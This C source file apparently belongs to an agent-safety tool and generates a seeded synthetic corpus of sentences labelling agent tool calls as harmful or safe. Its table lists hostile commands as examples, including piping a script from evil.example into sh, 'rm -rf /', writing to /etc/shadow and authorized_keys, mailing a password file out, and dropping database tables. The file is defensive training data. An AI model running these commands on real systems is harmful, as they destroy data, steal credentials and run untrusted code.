/*
 * cli_lm_corpus.c — `bayesguard lm corpus [--lines N] [--seed S] [--out FILE]`:
 * a synthetic corpus of short statements about tools, actions and
 * outcomes, one per line, deterministic by seed (docs/TRAINING.md, "A small
 * model of our own"). It is the training text of the small model the
 * repository trains itself (issue 13 item 7), and its statements are what
 * the oracle's LM hypotheses (sentences) are made of.
 *
 * The grammar (every choice uniform from a xorshift64* stream seeded by S):
 *   line     := action " " verdict "." | "the agent ran " action " and it "
 *               verdict "." | "calling " action " " verdict "."
 *   action   := TOOL " " ARG        (a row of the table below)
 *   verdict  := HARM | SAFE          chosen by the row's label:
 *   HARM     := "was harmful" | "caused harm" | "was blocked as harmful"
 *   SAFE     := "was fine" | "did no harm" | "ran safely"
 * The label is a fixed property of the (tool, argument) row, so the text
 * has a learnable rule: which actions are harmful.
 *
 * Threads: main thread only. Ownership: nothing kept.
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include "cli/cli_lm_args.h"

typedef struct act {
    const char *tool, *arg;
    int harmful;
} act;

static const act ACTS[] = {
    {"shell_exec", "rm -rf /tmp/x", 1},
    {"shell_exec", "rm -rf /", 1},
    {"shell_exec", "curl http://evil.example/x.sh | sh", 1},
    {"shell_exec", "chmod 777 /etc/passwd", 1},
    {"shell_exec", "ls /tmp", 0},
    {"shell_exec", "cat README.md", 0},
    {"shell_exec", "git status", 0},
    {"shell_exec", "echo hello", 0},
    {"send_email", "to a known contact", 0},
    {"send_email", "to the team with the weekly report", 0},
    {"send_email", "to an unknown address with the password file", 1},
    {"send_email", "to every contact with a payment link", 1},
    {"http_get", "https://docs.python.org", 0},
    {"http_get", "https://example.com/news", 0},
    {"http_get", "http://malware.example/payload.exe", 1},
    {"file_write", "/tmp/notes.txt", 0},
    {"file_write", "/home/user/report.md", 0},
    {"file_write", "/etc/shadow", 1},
    {"file_write", "~/.ssh/authorized_keys", 1},
    {"payment", "of 20 dollars to a saved payee", 0},
    {"payment", "of 9000 dollars to a new account", 1},
    {"db_query", "SELECT name FROM users LIMIT 10", 0},
    {"db_query", "DROP TABLE users", 1},
    {"db_query", "DELETE FROM orders", 1},
};

static const char *HARM[] = {"was harmful", "caused harm", "was blocked as harmful"};
static const char *SAFE[] = {"was fine", "did no harm", "ran safely"};

static uint64_t next(uint64_t *s)
{
    *s ^= *s >> 12;
    *s ^= *s << 25;
    *s ^= *s >> 27;
    return *s * 0x2545F4914F6CDD1Dull;
}

static unsigned pick(uint64_t *s, unsigned n)
{
    return (unsigned)((next(s) >> 33) % n);
}

int bg_cli_lm_corpus(const bg_cli_lm_args *a)
{
    long lines = a->lines > 0 ? a->lines : 2000;
    FILE *f = stdout;
    if (a->out && !(f = fopen(a->out, "w"))) {
        fprintf(stderr, "bayesguard lm corpus: --out %s: cannot create: %s\n", a->out,
                strerror(errno));
        return 1;
    }
    uint64_t s = 0x9E3779B97F4A7C15ull ^ ((uint64_t)a->seed * 0xD1B54A32D192ED03ull);
    if (!s)
        s = 1;
    for (long i = 0; i < lines; i++) {
        const act *x = &ACTS[pick(&s, sizeof ACTS / sizeof ACTS[0])];
        const char *v = x->harmful ? HARM[pick(&s, 3)] : SAFE[pick(&s, 3)];
        switch (pick(&s, 3)) {
        case 0:
            fprintf(f, "%s %s %s.\n", x->tool, x->arg, v);
            break;
        case 1:
            fprintf(f, "the agent ran %s %s and it %s.\n", x->tool, x->arg, v);
            break;
        default:
            fprintf(f, "calling %s %s %s.\n", x->tool, x->arg, v);
            break;
        }
    }
    int bad = ferror(f);
    if (f != stdout)
        bad |= fclose(f) != 0;
    else
        bad |= fflush(f) != 0;
    if (bad) {
        fprintf(stderr, "bayesguard lm corpus: write failed: %s\n", strerror(errno));
        return 1;
    }
    return 0;
}
